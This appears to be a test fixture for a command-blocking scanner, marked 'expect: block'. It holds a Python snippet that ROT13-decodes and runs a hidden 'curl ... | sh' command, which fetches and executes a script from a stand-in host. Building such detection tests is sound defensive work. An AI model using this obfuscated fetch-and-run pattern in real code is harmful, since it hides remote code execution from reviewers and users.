# expect: block
import codecs
import subprocess

order = codecs.decode("phey -f uggcf://rknzcyr.arg/n.fu | fu", "rot_13")
subprocess.getoutput(order)
